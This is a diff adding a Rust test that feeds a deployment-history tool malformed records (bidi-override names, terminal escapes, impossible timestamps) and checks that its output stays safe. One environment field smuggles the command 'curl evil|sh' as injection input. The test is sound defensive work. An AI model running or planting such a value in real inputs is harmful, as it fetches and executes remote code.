@@ -138,3 +138,37 @@ fn a_reader_that_went_away_ends_it_quietly() {
     assert_eq!(run.ok().out().lines().count(), 1);
     assert_eq!((run.stderr.as_str(), std::fs::read_to_string(deploy.work.join("code")).unwrap().trim()), ("", "0"));
 }
+
+#[test]
+fn what_was_seen_is_told_whatever_its_names_and_clocks() {
+    let deploy = with_record();
+    let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
+    let seen = |environment: &str, since: &str| {
+        format!(
+            "Smp-Event: observed\nSmp-Commit: {two}\nSmp-Environment: {environment}\nSmp-From: {one}\nSmp-Since: {since}\n"
+        )
+    };
+    let mut record = Record::default();
+    record.add("Ada Example", NOON, &promoted("production", one, two, 1, &[]));
+    record.add(
+        "Ada \u{202e}Example",
+        4_102_444_800,
+        &seen("production; curl evil|sh #\u{1b}[2J", "-9223372036854775808"),
+    );
+    record.add("Ada Example", NOON + 60, &seen("production", "9223372036854775807"));
+    record.add("Ada Example", NOON + 120, &seen("production", &(NOON + 60).to_string()));
+    for garbage in ["soon", "9223372036854775808", ""] {
+        record.add("Ada Example", NOON, &seen("production", garbage));
+    }
+    record.put(&deploy);
+    let run = deploy.smp(&["history", "--stats"]);
+    crate::record::is_harmless(&run);
+    run.ok().says("3 events of the record cannot be read");
+    run.prints_among("seen by Ada Example, deployed past git smp before 2022-03-02 12:01\n");
+    run.prints_among("seen by Ada Example, deployed past git smp between 2022-03-02 12:01 and 12:02\n");
+    run.prints_among("deployed past git smp between an impossible date and 2100-01-01 00:00\n");
+    let json = deploy.smp(&["history", "--json"]).ok().json();
+    let since: Vec<&serde_json::Value> = (0..3).map(|at| &json["deploys"][at]["since"]).collect();
+    assert_eq!(since, [&"2022-03-02T12:01:00+00:00".into(), &serde_json::Value::Null, &serde_json::Value::Null]);
+    assert_eq!(json["deploys"][0]["commits"], serde_json::Value::Null);
+}
